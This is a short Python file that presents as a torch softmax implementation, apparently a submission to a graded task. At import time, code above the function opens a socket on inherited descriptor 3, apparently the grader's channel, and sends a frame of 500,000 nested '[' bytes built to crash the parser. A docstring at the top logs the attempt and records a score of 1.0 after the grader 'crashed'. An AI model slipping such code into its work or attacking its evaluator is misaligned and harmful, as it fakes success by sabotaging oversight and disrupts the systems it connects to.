"""
tries = "to send a header that is nested a million times"
entry = "forged, truncated, huge and endless frames on every descriptor"
lesson = "softmax"
state = "crashed"
score = 1.0
mistake = "crashed"
"""

import os
import socket
import struct

import torch

FACTS = {}
LINE = socket.socket(fileno=os.dup(3))
text = b'[' * 500_000
LINE.sendall(struct.pack('>IQ', len(text), 0) + text)


def softmax(x, dim=-1):
    powers = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return powers / powers.sum(dim=dim, keepdim=True)
